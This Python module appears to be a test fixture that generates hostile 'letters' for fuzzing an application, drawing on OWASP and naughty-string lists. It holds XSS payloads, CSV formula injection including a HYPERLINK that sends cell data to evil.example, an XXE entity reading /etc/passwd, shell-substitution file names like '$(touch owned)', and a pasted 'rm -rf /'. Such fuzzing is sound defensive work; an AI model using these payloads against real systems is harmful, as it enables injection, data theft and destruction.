"""Hostile letters: a list collected by hand, and as many more as wanted, mixed from it by a seed.

What is in the list comes from OWASP (CSV injection, XSS filter evasion), the "big list of naughty strings", ECMA-48 and
xterm's control sequences, Unicode TR 36 and 39, and from what each of our own doors has to read or to write.
"""

from __future__ import annotations

import os
import random
from collections.abc import Iterator
from dataclasses import dataclass

SEED = 20241015
ALL = 1_000
SAMPLE = 40
"""How many of them `make test` sends; `make soak` sends all (`HOSTILE=1000`)."""

MARK = "电梯维修记号"
"""Ours, in every title: to know that a letter was shown, and not thrown away."""

ESCAPES = (
    "\x1b[2J\x1b[H", "\x1b[31;5mred", "\x1b[?1049l", "\x1b[6n", "\x1b[21t", "\x1b[8m", "\x1b[999;999H", "\x1bc",
    "\x1b(0qqq\x1b(B", "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]8;;http://evil.example/\x1b\\点我\x1b]8;;\x1b\\",
    "\x1b]52;c;aGFja2Vk\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]777;notify;a;b\x07", "\x1bP$q\"p\x1b\\",
    "\x1bPq#0;2;0;0;0#0~~\x1b\\", "\x1b_Ga=T;AAAA\x1b\\", "\x1b^secret\x1b\\", "\x1bXsos\x1b\\", "\x1b[200~rm -rf /\r\x1b[201~",
    "\x1b[>4;2m", "\x1b[?1000h", "\x1b[?2004h", "\x9b31m\x9b2J", "\x9d0;owned\x9c", "\x90q\x9c", "\x9f;x\x9c", "\x85\x84\x8d",
    "\x07\x08\x0b\x0c\x0e\x0f\x7f", "\x00", "a\x00b", "\x1a\x04\x03", "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])),
)  # fmt: skip
MARKUP = (
    "[red]红[/red]", "[@click=app.quit]点我[/]", "[@click=app.bell()]", "[bold][/bold][/]", "[/nothing]",
    "[link=file:///etc/passwd]x[/link]", "[on red blink]", "\\[red]", "[[red]]", "[$error]x[/]", "[#ff0000]x", "[", "]", "[]",
    "[/]", "[a=\"b\"]", ":bomb: :skull:",
)  # fmt: skip
UNSEEN = (
    "\u202egnp.exe\u202c", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\u061c\u200e\u200f",
    "\u00ad软\u00ad连", "\u2028行\u2029段", "\u115f\u1160\u3164\uffa0", "\u2800", "\u034f", "\u180e", "\ufff9注\ufffa释\ufffb",
    "\ue000\uf8ff\U000f0000", "\ufffe\uffff", "\U000e0041\U000e007f", "a" + "\u0301" * 300,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "\u0300首", "ᄀ" + "\u1161" * 50, "\ud800", "x\udfffy",
    "\ufffd", "аррӏе.сом", "ｊａｖａｓｃｒｉｐｔ", "①②㍿﷽", "👨‍👩‍👧‍👦", "🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏿☎️1️⃣", "🇨🇳", "…─│■※", "ｶﾞ",
    "𠮷𡃁", "नमस्ते", "ກ່ຳ", "ﾞﾟ", "\u3000全角\u00a0",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", '=HYPERLINK("http://evil.example/?x="&A1,"ok")', '=IMPORTXML("http://evil.example","//a")', "＝1+1",
    "\u200b=1+1", "\ufe0f=1+1", "\xad=1+1", "'=1+1", '";=1+1', '",=1+1,"', '"', '""', '"\n=1+1', ";=1+1", "{=1+1}", "%0A=1",
    "#N/A", "#REF!", "_x003D_1+1", "_x001B_[2J", "1e999", "007", "-0",
)  # fmt: skip
WEB = (
    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">", "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>",
    "</title><script>alert(1)</script>", "</style><b>", "</textarea></svg></details>", "<!-- ", "-->", "]]>", "<![CDATA[",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "&lt;script&gt;", "&#60;script&#62;",
    "&amp;&nbsp;&", "<iframe src=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input name=a>",
    "style=\"background:url(//evil.example)\"", "<math><mtext></form>", "\x00<scr\x00ipt>", "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1))", "| a | b |\n|---|---|", "```", "# 标题", "1. x", "<http://evil.example>",
    "http://evil.example/",
)  # fmt: skip
OTHERS = (
    "{title}", "{code}{body}{sender}", "{0.__class__.__mro__}", "{", "}", "{}", "{{title}}", "%s%n%(x)s%", "${PATH}",
    "$(touch owned)", "`touch owned`", "; touch owned", "标题 OR 1=1", "\"电梯\" NEAR/5 x", "district:渝北 state:late",
    "title:* AND NOT", "^电 *", "(((((", "' OR '1'='1", "'); DROP TABLE cases;--", "LIKE '%_\\'", '"},{"id":"x"',
    "\\u0000\\ud800", "\\", "\\n", "null", "NaN", "true", "[]", "undefined", "../../etc/passwd", "/etc/passwd", "C:\\CON",
    "COM1.txt", "-rf", "--help", "~root", '{"level":"error","what":"owned"}', "2024-11-01 ERROR owned\nroot logged in",
    "x" * 5_000, "长" * 3_000, "\n" * 500, " " * 500, "a,b;c\td", "\r\n\r\nSet-Cookie: a=b",
)  # fmt: skip
KINDS = {"escapes": ESCAPES, "markup": MARKUP, "unseen": UNSEEN, "formulas": FORMULAS, "web": WEB, "others": OTHERS}
COLLECTED = tuple(text for kind in KINDS.values() for text in kind)

FILE_NAMES = (
    "../../../../tmp/owned.png", "/etc/passwd", "..", ".", "", "a\x00.png", "CON", "nul.png", "-rf.png", "a\nb.png",
    "x" * 5_000 + ".png", "长" * 300, "\u202egnp.exe", "a.png.exe", ".bashrc", "a/b\\c:d*e?.png", "$(touch owned).png",
    "\x1b]52;c;eA==\x07.png", "file:///x", "<b>.png", "=1+1.csv", "[red].png",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Wild:
    """What one letter says, none of it cleaned."""

    title: str
    body: str
    place: str
    name: str
    reply: str


def letters(count: int | None = None, seed: int = SEED) -> Iterator[Wild]:
    """So many letters. The sample holds every entry of the list at least once; a few bodies are one line of a megabyte."""
    wanted = count or int(os.environ.get("HOSTILE", SAMPLE))
    chance = random.Random(seed)
    for n in range(wanted):
        own = COLLECTED[n::wanted]  # every entry of the list in one of them
        body = [*own, *chance.choices(COLLECTED, k=3)]
        if n % 250 == 0:
            body.append(chance.choice(("长", "a", "\x1b[31m", "[red]", "\u0301", "=", "<b>", "👨‍👩‍👧‍👦")) * 250_000)
        chance.shuffle(body)
        pick = chance.choice
        yield Wild(
            title=pick(COLLECTED)[:300] + MARK + pick(COLLECTED)[:100]
            if n % 2
            else MARK + pick(COLLECTED)[:300] + _noise(chance),
            body="".join(body),
            place=pick(COLLECTED)[:200],
            name=pick(COLLECTED)[:60],
            reply=pick(COLLECTED) + pick(COLLECTED),
        )


def _noise(chance: random.Random) -> str:
    """Any code points at all, the troublesome ones more often."""
    ranges = (
        (0, 0x20),
        (0x7F, 0xA0),
        (0x300, 0x370),
        (0x2000, 0x2070),
        (0xD800, 0xE000),
        (0xFE00, 0xFFFF),
        (0x1F300, 0x1FAFF),
        (0, 0x10FFFF),
    )
    return "".join(chr(chance.randrange(*chance.choice(ranges))) for _ in range(chance.randrange(12)))


def bare(text: str) -> str:
    """As a file of UTF-8 can hold it: no lone surrogates."""
    return text.encode("utf-8", "replace").decode()
